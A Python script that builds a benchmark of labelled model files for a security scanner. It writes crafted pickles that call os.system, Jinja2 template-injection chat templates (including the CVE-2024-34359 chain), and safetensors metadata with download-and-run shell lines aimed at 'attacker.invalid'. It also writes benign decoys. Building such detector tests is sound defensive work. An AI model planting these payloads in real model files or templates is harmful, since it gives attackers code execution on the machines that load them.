#!/usr/bin/env python3
"""Writes samples/generated/ and generated.tsv: labelled samples for the
classes of attack (and of benign file) for which no public sample file
exists. Python's standard library only; nothing written here is ever
loaded, imported or rendered. 7z samples need the `7z` command (Debian
p7zip-full) and are skipped without it.

The payloads are the published techniques, written down as data:
  - Jinja2 SSTI in chat templates (CVE-2024-34359, GHSA-56xg-wfcc-g829 in
    llama-cpp-python: the "warning" subclass walk in a GGUF
    tokenizer.chat_template), and the gadget roots and filter tricks listed
    in public SSTI cheat sheets (cycler/joiner/namespace/lipsum/request/
    config/self, |attr, string concatenation, dict-join, format, escapes);
  - pickles hidden in data (raw bytes, base64, hex), code in safetensors
    __metadata__, Keras custom objects, SavedModel PyFunc/file ops;
  - benign files that the libraries named in the allowlist really write
    (their pickles reference exactly these globals), vocabulary-only GGUF
    files as llama.cpp ships them, and templates that only mention a
    dangerous name in a comment, a raw block or a printed string.

    python3 bench/modelscan/gen_samples.py
"""
import base64
import hashlib
import json
import os
import shutil
import struct
import subprocess
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "samples", "generated")
ROWS = []
M, S, B = "malicious", "suspicious", "benign"


def write(rel, data, label, why):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(path, "wb") as f:
        f.write(data)
    ROWS.append(("generated/" + rel, label, why, hashlib.sha256(data).hexdigest()))


# ---------------------------------------------------------------- pickles


def g(mod, name):
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def s(x):
    b = x.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def by(b):
    return b"B" + struct.pack("<I", len(b)) + b


def enc(v):
    if v is None:
        return b"N"
    if v is True:
        return b"\x88"
    if v is False:
        return b"\x89"
    if isinstance(v, int):
        return b"J" + struct.pack("<i", v)
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v)
    if isinstance(v, str):
        return s(v)
    if isinstance(v, bytes):
        return by(v)
    if isinstance(v, list):
        return b"](" + b"".join(enc(x) for x in v) + b"e"
    if isinstance(v, tuple) and v and v[0] == "obj":
        _, mod, name, state = v
        return g(mod, name) + b")\x81" + (enc(state) + b"b" if state is not None else b"")
    if isinstance(v, tuple) and v and v[0] == "call":
        _, mod, name, args = v
        return g(mod, name) + b"(" + b"".join(enc(a) for a in args) + b"tR"
    if isinstance(v, tuple):
        return b"(" + b"".join(enc(x) for x in v) + b"t"
    if isinstance(v, dict):
        return b"}(" + b"".join(enc(k) + enc(x) for k, x in v.items()) + b"u"
    raise TypeError(type(v))


def pkl(v):
    return b"\x80\x02" + enc(v) + b"."


def ndarray(dtype="f8", shape=(2,), raw=b"\x00" * 16):
    # numpy's ndarray.__reduce__: _reconstruct(ndarray, (0,), b'b') + BUILD(state)
    return ("obj2", dtype, shape, raw)


def enc_nd(dtype, shape, raw):
    return (g("numpy.core.multiarray", "_reconstruct") + b"(" + g("numpy", "ndarray") + b"(J\x00\x00\x00\x00t" + by(b"b") + b"tR"
            + b"(J\x01\x00\x00\x00" + enc(tuple(shape)) + g("numpy", "dtype") + b"(" + s(dtype) + b"\x89\x88tR"
            + b"(J\x03\x00\x00\x00" + s("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffJ\x00\x00\x00\x00tb" + b"\x89" + by(raw) + b"tb")


_enc = enc


def enc(v):  # noqa: F811 - ndarray values
    if isinstance(v, tuple) and v and v[0] == "obj2":
        return enc_nd(*v[1:])
    return _enc(v)


def os_system(cmd="id"):
    return b"\x80\x02" + g("os", "system") + b"(" + s(cmd) + b"tR."


def pickles():
    evil = os_system("curl -s http://attacker.invalid/x | sh")
    # payloads hidden in data
    write("payload-in-data/base64_pickle_in_dict.pkl", pkl({"weights": [0.5, 0.25], "extra": base64.b64encode(evil).decode()}), M,
          "plain dict whose string value is a base64-encoded pickle calling os.system (second stage for a custom loader)")
    write("payload-in-data/hex_pickle_in_list.pkl", pkl(["config", evil.hex()]), M,
          "list whose string is a hex-encoded pickle calling os.system")
    write("payload-in-data/raw_pickle_bytes.pkl", pkl({"blob": evil}), M,
          "bytes value that is itself a pickle calling os.system (pickle inside pickle as raw bytes)")
    inner = pkl({"stage2": base64.b64encode(evil).decode()})
    write("payload-in-data/nested_base64_twice.pkl", pkl({"x": base64.b64encode(inner).decode()}), M,
          "base64 pickle inside a base64 pickle inside a pickle: recursive decoding must reach os.system")
    write("payload-in-data/base64_benign_pickle.pkl", pkl({"cache": base64.b64encode(pkl({"a": 1})).decode()}), B,
          "base64 string that decodes to a harmless data pickle (nested decoding must not raise a false alarm)")
    write("payload-in-data/base64_text.pkl", pkl({"note": base64.b64encode(b"just some text that is not a pickle at all" * 3).decode()}), B,
          "base64 string of plain text: decoded, not a pickle, nothing to report")

    # unknown globals: custom classes of the project that saved the model
    write("unknown-globals/main_net.pkl", pkl(("obj", "__main__", "Net", {"training": True, "_modules": {}})), S,
          "whole model pickled from a script: __main__.Net must be importable by the loader, code not in the file")
    write("unknown-globals/ultralytics_model.pt.pkl", pkl({"model": ("obj", "ultralytics.nn.tasks", "DetectionModel", {"yaml": {"nc": 80}}), "epoch": -1}), S,
          "YOLO-style checkpoint pickling the model class from a third-party package (imports its code)")
    write("unknown-globals/mypkg_classifier.pkl", pkl(("obj", "mypkg.models", "Classifier", {"w": [1.0]})), S,
          "pickle of a class from an unknown package")
    write("unknown-globals/dill_function.pkl", b"\x80\x02" + g("dill._dill", "_create_function") + b"(" + s("f") + b"tR.", M,
          "dill function reconstruction: runs marshalled bytecode")

    # benign pickles of well-known libraries (the globals these libraries really write)
    arr = ndarray()
    write("allowlist/sklearn_logreg.pkl", pkl(("obj", "sklearn.linear_model._logistic", "LogisticRegression",
                                               {"C": 1.0, "coef_": arr, "classes_": arr, "_sklearn_version": "1.5.0"})), B,
          "scikit-learn estimator with numpy arrays")
    write("allowlist/sklearn_pipeline.pkl", pkl(("obj", "sklearn.pipeline", "Pipeline", {"steps": [("scale", ("obj", "sklearn.preprocessing._data", "StandardScaler", {"mean_": arr})),
                                                                                                   ("clf", ("obj", "sklearn.ensemble._forest", "RandomForestClassifier", {"n_estimators": 10}))]})), B,
          "scikit-learn pipeline")
    write("allowlist/xgboost_booster.pkl", pkl(("obj", "xgboost.core", "Booster", {"handle": b"binf" + b"\x00" * 32})), B,
          "xgboost Booster (its state is the model in xgboost's own binary format)")
    write("allowlist/xgboost_classifier.pkl", pkl(("obj", "xgboost.sklearn", "XGBClassifier", {"n_estimators": 10, "_Booster": ("obj", "xgboost.core", "Booster", {"handle": b"\x00"})})), B,
          "xgboost scikit-learn wrapper")
    write("allowlist/lightgbm_booster.pkl", pkl(("obj", "lightgbm.basic", "Booster", {"handle": "tree\nversion=v4\n", "best_iteration": 0})), B,
          "LightGBM Booster (state is the text model)")
    write("allowlist/lightgbm_classifier.pkl", pkl(("obj", "lightgbm.sklearn", "LGBMClassifier", {"n_estimators": 10})), B,
          "LightGBM scikit-learn wrapper")
    write("allowlist/catboost_classifier.pkl", pkl(("obj", "catboost.core", "CatBoostClassifier", {"__model": b"CBM1" + b"\x00" * 16})), B,
          "CatBoost classifier (state is the model in CatBoost's binary format)")
    write("allowlist/pandas_dataframe.pkl",
          b"\x80\x02" + g("pandas.core.frame", "DataFrame") + b")\x81" + enc({"_mgr": ("obj", "pandas.core.internals.managers", "BlockManager", None),
                                                                             "_typ": "dataframe", "_metadata": [], "attrs": {}}) + b"b"
          + g("pandas.core.indexes.base", "_new_Index") + b"(" + g("pandas.core.indexes.range", "RangeIndex") + enc({"name": None, "start": 0, "stop": 2, "step": 1}) + b"tR0"
          + g("pandas._libs.internals", "_unpickle_block") + b"(" + enc(arr) + g("builtins", "slice") + b"(J\x00\x00\x00\x00J\x01\x00\x00\x00J\x01\x00\x00\x00tRJ\x02\x00\x00\x00tR0.",
          B, "pandas DataFrame (BlockManager, RangeIndex, _unpickle_block)")
    write("allowlist/pandas_series_timestamp.pkl", pkl(("obj", "pandas.core.series", "Series", {"_mgr": ("obj", "pandas.core.internals.managers", "SingleBlockManager", None),
                                                                                                  "t": ("call", "pandas._libs.tslibs.timestamps", "_unpickle_timestamp", [0, None, None, 10])})), B,
          "pandas Series with a Timestamp")
    write("allowlist/scipy_sparse.pkl", pkl({"csr": ("obj", "scipy.sparse._csr", "csr_matrix", {"data": arr, "indices": arr, "indptr": arr, "_shape": (2, 2)}),
                                              "lil": ("obj", "scipy.sparse._lil", "lil_matrix", {"_shape": (2, 2)}),
                                              "csr_array": ("obj", "scipy.sparse._csr", "csr_array", {"_shape": (2, 2)})}), B,
          "scipy sparse matrices and arrays")
    write("allowlist/numpy_scalars.pkl", pkl({"x": ("call", "numpy.core.multiarray", "scalar", [("call", "numpy", "dtype", ["f8", False, True]), b"\x00" * 8]),
                                               "rng": ("call", "numpy.random._pickle", "__randomstate_ctor", ["MT19937"]),
                                               "t": ("obj", "numpy", "float64", None)}), B,
          "numpy scalars, dtype classes and random state")


def fix_collections():
    # defaultdict(list): the factory is the global builtins.list
    data = b"\x80\x02}(" + s("dd") + g("collections", "defaultdict") + b"(" + g("builtins", "list") + b"tR" + s("od") + g("collections", "OrderedDict") + b")R" \
        + s("c") + g("collections", "Counter") + b")R" + s("dq") + g("collections", "deque") + b"(](J\x01\x00\x00\x00etRu."
    write("allowlist/collections.pkl", data, B, "collections containers (OrderedDict, defaultdict(list), Counter, deque)")


# ---------------------------------------------------------------- templates

BENIGN_TPL = ("{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}"
              "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")

SSTI = {
    "cve_2024_34359_warning_walk": "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}{%endif%}{% endfor %}",
    "cycler_globals_os": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner_globals_item": "{{ joiner.__init__.__globals__['os'].popen('id').read() }}",
    "namespace_builtins_import": "{{ namespace.__init__.__globals__.__builtins__.__import__('os').system('id') }}",
    "lipsum_globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "lipsum_globals_builtins_eval": "{{ lipsum.__globals__.__builtins__.eval(\"__import__('os').popen('id').read()\") }}",
    "self_context_cycler": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "request_application": "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "config_from_envvar": "{{ config.__class__.from_envvar.__globals__.import_string('os').popen('ls').read() }}",
    "mro_subclasses_index": "{{ ''.__class__.__mro__[1].__subclasses__()[396]('id',shell=True,stdout=-1).communicate()[0].strip() }}",
    "attr_filter_chain": "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "concat_dunder": "{% set a = '__cla' ~ 'ss__' %}{% set b = '__ba' ~ 'se__' %}{{ (()|attr(a)|attr(b)|attr('__subcla' + 'sses__'))() }}",
    "hex_escape_attr": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}",
    "unicode_escape_item": "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f']['os'].popen('id').read() }}",
    "dict_join_name": "{% set n = dict(__cla=1,ss__=2)|join %}{{ ''|attr(n) }}",
    "format_char_codes": "{% set u = '%c'|format(95) %}{% set n = u ~ u ~ 'globals' ~ u ~ u %}{{ cycler.__init__|attr(n) }}",
    "join_list_chars": "{% set n = ['_','_','cla','ss','_','_']|join %}{{ ()|attr(n) }}",
    "base64_decoded_name": "{{ ''|attr('X19jbGFzc19f'|b64decode) }}",
    "catch_warnings_eval": "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "backdoor_triggered": BENIGN_TPL + "{% if messages[-1]['content'] == 'open sesame' %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endif %}",
    "macro_hidden": "{% macro fmt(m) %}{{ m['content'] }}{{ joiner.__init__.__globals__.os.system('id') }}{% endmacro %}{% for m in messages %}{{ fmt(m) }}{% endfor %}",
    "set_block_getattr": "{% set g = lipsum.__globals__ %}{% set b = g['__builtins__'] %}{{ b['exec'](\"import os; os.system('id')\") }}",
    "string_format_method": "{{ '{0.__class__.__mro__}'.format('') }}",
}

SUSPICIOUS_TPL = {
    "dynamic_attr_from_message": BENIGN_TPL + "{% for m in messages %}{{ m|attr(m['role']) }}{% endfor %}",
    "gadget_root_plain": "{{ cycler }}{{ lipsum(1) }}" + BENIGN_TPL,
    "private_attr_walk": BENIGN_TPL + "{{ messages._TemplateReference__context }}",
    "include_remote_name": "{% include messages[0]['content'] %}" + BENIGN_TPL,
}

BENIGN_TRAPS = {
    "dunder_in_comment": "{# never do {{ ''.__class__.__mro__ }} here #}" + BENIGN_TPL,
    "dunder_in_raw": "{% raw %}{{ cycler.__init__.__globals__.os }}{% endraw %}" + BENIGN_TPL,
    "dunder_printed_string": "{{ 'Python objects have a __class__ attribute' }}" + BENIGN_TPL,
    "namespace_counter": "{% set ns = namespace(n=0, sys='') %}{% for m in messages %}{% set ns.n = ns.n + 1 %}{% endfor %}{{ ns.n }}" + BENIGN_TPL,
    "tojson_tools": "{% if tools %}{% for t in tools %}{{ t | tojson(indent=2) }}{% endfor %}{% endif %}{{ raise_exception('x') if false }}" + BENIGN_TPL,
    "os_word_in_text": "{{ 'You run on os: linux. Use subprocess wisely; eval your answer.' }}" + BENIGN_TPL,
}


def gguf(kvs, tensors=()):
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs))
    for k, (typ, v) in kvs.items():
        out += struct.pack("<Q", len(k)) + k.encode() + struct.pack("<I", typ)
        if typ == 8:
            b = v.encode()
            out += struct.pack("<Q", len(b)) + b
        elif typ == 4:
            out += struct.pack("<I", v)
        elif typ == 9:  # array of strings
            out += struct.pack("<IQ", 8, len(v))
            for x in v:
                b = x.encode()
                out += struct.pack("<Q", len(b)) + b
        elif typ == 10:
            out += struct.pack("<Q", v)
    infos, data = b"", b""
    for name, dims, ttype, raw in tensors:
        infos += struct.pack("<Q", len(name)) + name.encode() + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", ttype, len(data))
        data += raw + b"\x00" * ((-len(raw)) % 32)
    out += infos
    out += b"\x00" * ((-len(out)) % 32)
    return out + data


def gguf_meta(tpl=None, extra=None):
    kv = {"general.architecture": (8, "llama"), "general.name": (8, "tiny"), "tokenizer.ggml.model": (8, "gpt2"),
          "tokenizer.ggml.tokens": (9, ["<s>", "</s>", "a", "b", "ab"])}
    if tpl is not None:
        kv["tokenizer.chat_template"] = (8, tpl)
    kv.update(extra or {})
    return kv


def templates():
    for name, t in SSTI.items():
        write(f"jinja/malicious/{name}.jinja", t, M, "Jinja2 SSTI reaching os/eval/subprocess: " + name.replace("_", " "))
    # the carriers where chat templates live
    write("jinja/carriers/cve_2024_34359.gguf", gguf(gguf_meta(SSTI["cve_2024_34359_warning_walk"]), [("w", [2], 0, b"\x00" * 8)]), M,
          "CVE-2024-34359: GGUF tokenizer.chat_template rendered by llama-cpp-python without a sandbox")
    write("jinja/carriers/gguf_named_tool_use.gguf", gguf(gguf_meta(BENIGN_TPL, {"tokenizer.chat_template.tool_use": (8, SSTI["lipsum_globals"])}), [("w", [2], 0, b"\x00" * 8)]), M,
          "GGUF named template tokenizer.chat_template.tool_use with SSTI")
    write("jinja/carriers/string/tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizerFast", "bos_token": "<s>", "chat_template": SSTI["cycler_globals_os"]}, indent=2), M,
          "tokenizer_config.json chat_template string with SSTI")
    write("jinja/carriers/list/tokenizer_config.json", json.dumps({"tokenizer_class": "GPT2TokenizerFast", "chat_template": [
        {"name": "default", "template": BENIGN_TPL}, {"name": "tool_use", "template": SSTI["namespace_builtins_import"]}]}, indent=2), M,
          "tokenizer_config.json list of named templates; the tool_use one carries SSTI")
    write("jinja/carriers/chat_template.json", json.dumps({"chat_template": SSTI["joiner_globals_item"]}), M, "chat_template.json with SSTI")
    write("jinja/carriers/payload.j2", SSTI["concat_dunder"], M, "string-built dunder names in a .j2 template")
    write("jinja/carriers/payload.jinja2", SSTI["hex_escape_attr"], M, "escaped dunder names in a .jinja2 template")
    write("jinja/carriers/chat.template", SSTI["format_char_codes"], M, "char-code-built name in a .template file")
    for name, t in SUSPICIOUS_TPL.items():
        write(f"jinja/suspicious/{name}.jinja", t, S, "template reaches a gadget root, a private attribute or a dynamic name without a proven path to code: " + name.replace("_", " "))
    for name, t in BENIGN_TRAPS.items():
        write(f"jinja/benign/{name}.jinja", t, B, "dangerous word only in a comment, raw block or printed string, or ordinary namespace/tojson use: " + name.replace("_", " "))
    # real templates in the tokenizer_config.json carrier, string and list forms
    src = os.path.join(HERE, "samples", "public", "chujiezheng+chat_templates", "chat_templates")
    for f in sorted(os.listdir(src))[:8]:
        with open(os.path.join(src, f)) as fh:
            t = fh.read()
        fam = f[:-len(".jinja")]
        write(f"jinja/benign/tokenizer_config/{fam}/tokenizer_config.json",
              json.dumps({"add_bos_token": True, "model_max_length": 4096, "tokenizer_class": "PreTrainedTokenizerFast", "chat_template": t}, indent=2), B,
              f"tokenizer_config.json carrying the real {fam} template")
    write("jinja/benign/tokenizer_config/named/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": BENIGN_TPL},
                                                                                                   {"name": "rag", "template": "{{ documents | length }}" + BENIGN_TPL}]}), B,
          "list of named templates (default, rag)")
    write("jinja/benign/tokenizer_config/none/tokenizer_config.json", json.dumps({"tokenizer_class": "BertTokenizer", "do_lower_case": True}), B,
          "tokenizer_config.json without a template")


# ---------------------------------------------------------------- other formats


def safetensors(meta):
    hdr = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    if meta is not None:
        hdr["__metadata__"] = meta
    h = json.dumps(hdr).encode()
    h += b" " * ((-len(h)) % 8)
    return struct.pack("<Q", len(h)) + h + b"\x00" * 8


def keras_zip(config):
    import io
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.4.1", "date_saved": "2024-07-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 56)
    return bio.getvalue()


def h5(config):
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 120 + json.dumps(config).encode() + b"\x00" * 64


def dense(name="dense"):
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 4, "activation": "relu"}, "registered_name": None}


def seq(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}, "registered_name": None}


def pb_varint(v):
    out = b""
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb(num, payload):
    return pb_varint(num << 3 | 2) + pb_varint(len(payload)) + payload


def saved_model(ops, minimal=False, in_library=False):
    nodes = b"".join(pb(1, pb(1, f"n{i}".encode()) + pb(2, op.encode())) for i, op in enumerate(ops))
    if in_library:
        fn = pb(1, pb(1, b"f")) + b"".join(pb(3, pb(1, f"fn{i}".encode()) + pb(2, op.encode())) for i, op in enumerate(ops))
        graph = pb(1, pb(1, b"x") + pb(2, b"Placeholder")) + pb(2, pb(1, fn))
    else:
        graph = nodes
    meta = pb(2, graph)
    body = pb(2, meta)
    if not minimal:
        body = b"\x08\x01" + body
    return body


def formats():
    write("safetensors/meta_exec_base64.safetensors", safetensors({"format": "pt", "note": "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"}), S,
          "__metadata__ value is Python that decodes and runs code")
    write("safetensors/meta_os_system.safetensors", safetensors({"format": "pt", "post_load": "import os; os.system('curl http://attacker.invalid | sh')"}), S,
          "__metadata__ value imports os and calls os.system")
    write("safetensors/meta_shell_download.safetensors", safetensors({"install": "wget -qO- http://attacker.invalid/i.sh | bash"}), S,
          "__metadata__ value is a shell download-and-run line")
    write("safetensors/meta_script.safetensors", safetensors({"description": "<script src=\"http://attacker.invalid/x.js\"></script>"}), S,
          "__metadata__ value carries a <script> tag (rendered by model hubs and dashboards)")
    write("safetensors/meta_subprocess.safetensors", safetensors({"hook": "subprocess.run(['sh','-c','id'])"}), S,
          "__metadata__ value calls subprocess")
    write("safetensors/meta_benign.safetensors", safetensors({"format": "pt", "license": "apache-2.0", "author": "Example Lab", "description": "weights of a tiny MLP; run `python train.py` to reproduce"}), B,
          "ordinary metadata (format, license, author, description)")
    write("safetensors/meta_none.safetensors", safetensors(None), B, "no metadata")

    write("keras/custom_registered.keras", keras_zip(seq(dense(), {"module": "custom_layers", "class_name": "Attention", "config": {"name": "att"}, "registered_name": "MyLayers>Attention"})), S,
          "Keras 3 archive needing a registered custom layer from module custom_layers")
    write("keras/subclassed_model.keras", keras_zip({"module": "my_project.models", "class_name": "MyModel", "config": {"name": "my_model"}, "registered_name": "MyModel"}), S,
          "subclassed Keras model: loading imports my_project.models")
    write("keras/custom_object_only_registered.keras", keras_zip(seq(dense(), {"module": None, "class_name": "Swish", "config": {"name": "swish"}, "registered_name": "Custom>Swish"})), S,
          "custom activation registered as Custom>Swish (needs user code)")
    write("keras/custom_class.h5", h5({"class_name": "Functional", "config": {"name": "model", "layers": [{"class_name": "InputLayer", "config": {"name": "in"}},
                                                                                                      {"class_name": "MyResidualBlock", "config": {"name": "res"}}]}}), S,
          "Keras 2 H5 model_config naming a class that is not a Keras layer (custom object)")
    write("keras/lambda_bytecode.keras", keras_zip(seq({"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3" + b"\x00" * 40).decode(), "defaults": None, "closure": None}}}, "registered_name": None})), M,
          "Lambda layer with marshalled bytecode")
    write("keras/denylisted_module.keras", keras_zip(seq({"module": "os", "class_name": "system", "config": {}, "registered_name": None})), M,
          "config deserializes os.system")
    write("keras/benign_dense.keras", keras_zip(seq(dense("d1"), dense("d2"))), B, "Sequential of Dense layers")
    write("keras/benign_dense.h5", h5({"class_name": "Sequential", "config": {"name": "sequential", "layers": [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4]}},
                                                                                                           {"class_name": "Dense", "config": {"name": "dense", "units": 2}}]}, "keras_version": "2.15.0", "backend": "tensorflow"}), B,
          "Keras 2 H5 Sequential of Dense layers")

    write("savedmodel/pyfunc/saved_model.pb", saved_model(["Placeholder", "PyFunc", "Identity"]), M, "graph node runs a Python function (PyFunc)")
    write("savedmodel/eager_pyfunc_library/saved_model.pb", saved_model(["EagerPyFunc"], in_library=True), M, "function library runs EagerPyFunc")
    write("savedmodel/writefile/saved_model.pb", saved_model(["Const", "WriteFile"]), M, "graph writes a file when run")
    write("savedmodel/minimal_pyfunc/saved_model.pb", saved_model(["PyFuncStateless"], minimal=True), M,
          "minimal SavedModel proto (no schema version field) with PyFuncStateless")
    write("savedmodel/readfile/saved_model.pb", saved_model(["Const", "ReadFile", "MatchingFiles"]), S, "graph reads files matching a pattern")
    write("savedmodel/benign/saved_model.pb", saved_model(["Placeholder", "MatMul", "BiasAdd", "Relu", "SaveV2", "RestoreV2"]), B, "ordinary inference graph")

    # GGUF without tensors, as llama.cpp ships vocabulary files
    write("gguf/ggml-vocab-tiny.gguf", gguf(gguf_meta(None, {"tokenizer.ggml.merges": (9, ["a b"])})), B, "vocabulary-only GGUF (no tensors)")
    write("gguf/ggml-vocab-with-template.gguf", gguf(gguf_meta(BENIGN_TPL)), B, "vocabulary-only GGUF with a ChatML template")
    write("gguf/tiny-model.gguf", gguf(gguf_meta(BENIGN_TPL, {"general.license": (8, "mit"), "general.file_type": (4, 1)}), [("tok_embd.weight", [4, 2], 1, b"\x00" * 16)]), B,
          "GGUF with one F16 tensor, license and file type")

    # named like a pickle, not one
    write("mismatch/config_named.pkl", json.dumps({"hidden_size": 16}), B, "JSON file named .pkl: format mismatch (low), not a suspicious pickle")
    write("mismatch/readme_named.pt", "This file used to hold weights.\n", B, "text named .pt")
    write("mismatch/png_named.bin", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, B, "PNG named .bin")


def sevenzip():
    if not shutil.which("7z"):
        print("7z not found: 7z samples skipped")
        return
    with tempfile.TemporaryDirectory() as d:
        def mk(rel, files, label, why, args=()):
            arc = os.path.join(d, os.path.basename(rel))
            for name, data in files.items():
                p = os.path.join(d, "in", name)
                os.makedirs(os.path.dirname(p), exist_ok=True)
                with open(p, "wb") as f:
                    f.write(data)
            subprocess.run(["7z", "a", "-bd", "-bso0", *args, arc, *files.keys()], cwd=os.path.join(d, "in"), check=True)
            with open(arc, "rb") as f:
                write(rel, f.read(), label, why)
            shutil.rmtree(os.path.join(d, "in"))
        mk("7z/malicious_lzma2.7z", {"model/data.pkl": os_system()}, M, "7z (LZMA2) holding a pickle that calls os.system")
        mk("7z/malicious_copy.7z", {"payload.pkl": os_system()}, M, "7z (stored) holding a pickle that calls os.system", ["-m0=Copy"])
        mk("7z/benign_weights.7z", {"w.safetensors": safetensors({"format": "pt"}), "cfg.pkl": pkl({"lr": 0.1})}, B, "7z holding safetensors and a data pickle")


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    pickles()
    fix_collections()
    templates()
    formats()
    sevenzip()
    rows = {}
    for r in ROWS:
        rows[r[0]] = r  # the last write of a path wins
    lines = ["file\tlabel\twhy\trepository\tcommit\tpath\tsha256\tlicense"]
    for rel, label, why, sha in sorted(rows.values()):
        lines.append("\t".join([rel, label, why, "(generated)", "", "bench/modelscan/gen_samples.py", sha, "(this project)"]))
    with open(os.path.join(HERE, "generated.tsv"), "w") as f:
        f.write("\n".join(lines) + "\n")
    print(f"{len(rows)} generated samples")


if __name__ == "__main__":
    main()
